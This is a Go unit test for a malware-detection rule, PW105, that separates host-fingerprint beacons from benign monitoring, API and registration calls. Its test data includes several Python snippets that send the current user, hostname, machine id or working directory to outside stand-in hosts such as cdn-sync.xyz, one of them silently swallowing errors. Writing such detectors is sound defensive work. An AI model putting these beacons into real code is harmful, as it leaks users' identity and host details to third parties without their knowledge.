package rules

import "testing"

// TestBeacon: one host fingerprint alone is PW105 in a beacon's shape
// (sent alone to a fixed address off the host, the answer unread), and
// not in an agent's heartbeat, an API client's lookup, a local agent's
// registration or a header. Each program reads one kind of fingerprint
// only, so that nothing but the beacon's shape can flag it.
func TestBeacon(t *testing.T) {
	var pw105 *Rule
	for _, r := range All() {
		if r.ID == "PW105" {
			pw105 = r
		}
	}
	flagged := []string{
		"import getpass, urllib.parse, urllib.request\nwho = getpass.getuser()\n" +
			"urllib.request.urlopen('https://pkg-stats.cloud-metrics.io/i?' + urllib.parse.urlencode({'u': who}))\n",
		"import http.client, socket\nconn = http.client.HTTPConnection('telemetry.pyfix.site', 8080)\n" +
			"conn.request('POST', '/', body=f'{socket.gethostname()}'.encode())\n",
		"import requests, uuid\ndef ping():\n    try:\n        requests.post('https://cdn-sync.xyz/n', data=hex(uuid.getnode()))\n    except Exception:\n        pass\n",
		"import os, requests\nr = requests.get('https://cdn-pkg.xyz/c', params={'p': os.getcwd()}, timeout=3)\n",
	}
	clean := []string{
		// A monitoring agent: its status beside its name, to its own server.
		"import platform, requests\ndef heartbeat(url, load):\n    requests.post(url, json={'host': platform.node(), 'load': load}, timeout=5)\n",
		// The same to a fixed server, with its metrics.
		"import os, platform, requests\nrequests.post('https://monitor.corp.io/hb', json={'host': platform.node(), 'load': os.getloadavg()})\n",
		// An API client reads the answer it asked for.
		"import getpass, requests\ndef lookup():\n    r = requests.get('https://directory.corp.io/users', params={'login': getpass.getuser()}, timeout=5)\n    return r.json()\n",
		"import http.client, socket\nc = http.client.HTTPSConnection('api.corp.io')\nc.request('GET', '/v1/hosts/' + socket.gethostname())\nprint(c.getresponse().read())\n",
		// On the host, or a documentation address.
		"import platform, requests\nrequests.post('http://127.0.0.1:8125/register', data=platform.node(), timeout=1)\n",
		"import platform, requests\nrequests.post('http://agent.local/register', data=platform.node(), timeout=1)\n",
		"import platform, requests\nrequests.post('https://api.example.com/register', data=platform.node(), timeout=1)\n",
		// The destination comes from elsewhere.
		"import platform, requests\ndef register(server):\n    requests.post(server, data=platform.node(), timeout=1)\n",
		// In a header: not what the request carries.
		"import platform, requests\nrequests.get('https://pypi.org/simple/', headers={'User-Agent': platform.node()}, timeout=5)\n",
	}
	for _, src := range flagged {
		if count(t, pw105, src) == 0 {
			t.Errorf("beacon not flagged:\n%s", src)
		}
	}
	for _, src := range clean {
		if n := count(t, pw105, src); n != 0 {
			t.Errorf("flagged %d times:\n%s", n, src)
		}
	}
}

// TestFileURLsInALoop: a request made in a loop over literal file://
// URLs stays on the host, whatever the URLs carry (a test building them
// from the current folder); a loop whose body rebinds its variable, or
// over URLs that are not all file://, is judged as before.
func TestFileURLsInALoop(t *testing.T) {
	var pw105 *Rule
	for _, r := range All() {
		if r.ID == "PW105" {
			pw105 = r
		}
	}
	loop := func(urls, body string) string {
		return "import getpass, os, socket, urllib.request\n" +
			"def probe():\n    for url in [" + urls + "]:\n" + body +
			"        urllib.request.urlopen(urllib.request.Request(url))\n"
	}
	fileURLs := `"file:///nothing.txt", "file://%s:80%s/x" % (socket.gethostname(), os.getcwd())`
	if n := count(t, pw105, loop(fileURLs, "")); n != 0 {
		t.Errorf("file:// URLs in a loop flagged %d times", n)
	}
	mixed := `"file:///nothing.txt", "https://%s.cdn-sync.xyz/%s" % (socket.gethostname(), getpass.getuser())`
	if count(t, pw105, loop(mixed, "")) == 0 {
		t.Error("a loop over a file:// URL and a beacon's URL not flagged")
	}
	rebinds := "        url = 'https://cdn-sync.xyz/' + getpass.getuser() + socket.gethostname()\n"
	if count(t, pw105, loop(fileURLs, rebinds)) == 0 {
		t.Error("a loop whose body rebinds its URL to a beacon's not flagged")
	}
}
